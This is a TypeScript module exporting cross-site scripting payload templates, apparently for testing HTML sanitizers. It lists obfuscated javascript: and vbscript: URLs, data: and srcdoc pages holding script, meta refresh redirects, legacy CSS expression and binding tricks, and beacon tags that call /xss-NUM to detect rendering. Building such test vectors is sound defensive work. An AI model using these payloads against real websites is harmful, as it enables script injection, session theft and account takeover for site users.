import { decimals, hexadecimals, type Vector } from './vector.ts'

const page = (run: string) => `<script>${run}</script>`

/** Addresses that are code, in every way to write one. */
export const codeAddresses: Vector[] = [
	'<a href="javascript:RUN">x</a>',
	'<a href=JaVaScRiPt:RUN>x</a>',
	'<a href=" javascript:RUN">x</a>',
	'<a href="java\tscript:RUN">x</a>',
	'<a href="java\nscript:RUN">x</a>',
	'<a href="java\rscript:RUN">x</a>',
	'<a href="\u0001javascript:RUN">x</a>',
	'<a href="\u001fjavascript:RUN">x</a>',
	'<a href="javascript&colon;RUN">x</a>',
	'<a href="java&Tab;script&colon;RUN">x</a>',
	'<a href="java&NewLine;script:RUN">x</a>',
	'<a href="javascript&#58;RUN">x</a>',
	'<a href="&#1;javascript:RUN">x</a>',
	(run) => `<a href="${decimals(`javascript:${run}`)}">x</a>`,
	(run) => `<a href="${hexadecimals(`javascript:${run}`)}">x</a>`,
	'<a href="javascript://example.com/%0aRUN">x</a>',
	'<a href="javascript:%78ssRan(NUM)">x</a>',
	'<a href="javascript:void(RUN)" target=_self>x</a>',
	'<a href="vbscript:RUN">x</a>',
	'<a href="feed:javascript:RUN">x</a>',
	'<a href="view-source:javascript:RUN">x</a>',
	'<area href=javascript:RUN shape=default>',
	'<form action=javascript:RUN><button>x</button></form>',
	'<form><button formaction=javascript:RUN>x</button></form>',
	'<form><input type=submit formaction=javascript:RUN></form>',
	'<iframe src=javascript:parent.RUN></iframe>',
	'<iframe src="javascript:parent.RUN" sandbox="allow-scripts allow-same-origin"></iframe>',
	'<frame src=javascript:parent.RUN>',
	'<embed src=javascript:RUN>',
	'<object data=javascript:parent.RUN></object>',
	'<object><param name=src value=javascript:RUN></object>',
	'<base href="javascript:RUN//"><a href=#>x</a>',
	'<img src=javascript:RUN>',
	'<table background=javascript:RUN><tr><td>x</table>',
	'<isindex action=javascript:RUN type=submit>',
	'<math><a xlink:href=javascript:RUN>x</a></math>',
]

/** Puts whole pages in an address or an attribute. */
export const pagesInside: Vector[] = [
	(run) => `<iframe srcdoc="${page(run)}"></iframe>`,
	(run) => `<iframe srcdoc="${decimals(page(run))}"></iframe>`,
	(run) => `<iframe src="data:text/html,${page(run)}"></iframe>`,
	(run) => `<iframe src="data:text/html;base64,${btoa(page(run))}"></iframe>`,
	(run) => `<object data="data:text/html,${page(run)}"></object>`,
	(run) => `<embed src="data:text/html,${page(run)}">`,
	(run) => `<a href="data:text/html,${page(run)}">x</a>`,
	"<object data=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.RUN'/>\"></object>",
	'<meta http-equiv=refresh content="0;url=javascript:RUN">',
	'<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">',
	'<meta http-equiv=refresh content="0;url=/xss-NUM">',
	'<link rel=import href="data:text/html,<script>RUN</script>">',
]

/** Holds what runs nothing but asks for something, and so tells somebody that it was taken for markup. */
export const requests: Vector[] = [
	'<img src=/xss-NUM>',
	'<img srcset="/xss-NUM 1x">',
	'<iframe src=/xss-NUM></iframe>',
	'<script src=/xss-NUM></script>',
	'<link rel=stylesheet href=/xss-NUM>',
	'<link rel=prefetch href=/xss-NUM>',
	'<link rel=preload as=image href=/xss-NUM>',
	'<object data=/xss-NUM></object>',
	'<embed src=/xss-NUM>',
	'<video poster=/xss-NUM></video>',
	'<audio src=/xss-NUM autoplay></audio>',
	'<input type=image src=/xss-NUM>',
	'<body background=/xss-NUM>',
	'<b style="background:url(/xss-NUM)">x</b>',
	'<style>body{background:url(/xss-NUM)}</style>',
	"<style>@import '/xss-NUM';</style>",
	'<style>@font-face{font-family:x;src:url(/xss-NUM)}*{font-family:x!important}</style>',
	'<svg><image href=/xss-NUM width=9 height=9 /></svg>',
	'<a href=# ping=/xss-NUM>x</a>',
	'<form action=/xss-NUM><input autofocus onfocus=form.submit()></form>',
]

/** Old browsers took this for code in a style. */
export const styles: Vector[] = [
	'<b style="width:expression(RUN)">x</b>',
	'<b style="behavior:url(javascript:RUN)">x</b>',
	'<b style="-moz-binding:url(javascript:RUN)">x</b>',
	'<b style="list-style:url(javascript:RUN)">x</b>',
	'<style>body{background:url("javascript:RUN")}</style>',
	"<style>@import 'javascript:RUN';</style>",
	'<link rel=stylesheet href=javascript:RUN>',
	'<b style="x:\\65xpression(RUN)">x</b>',
]
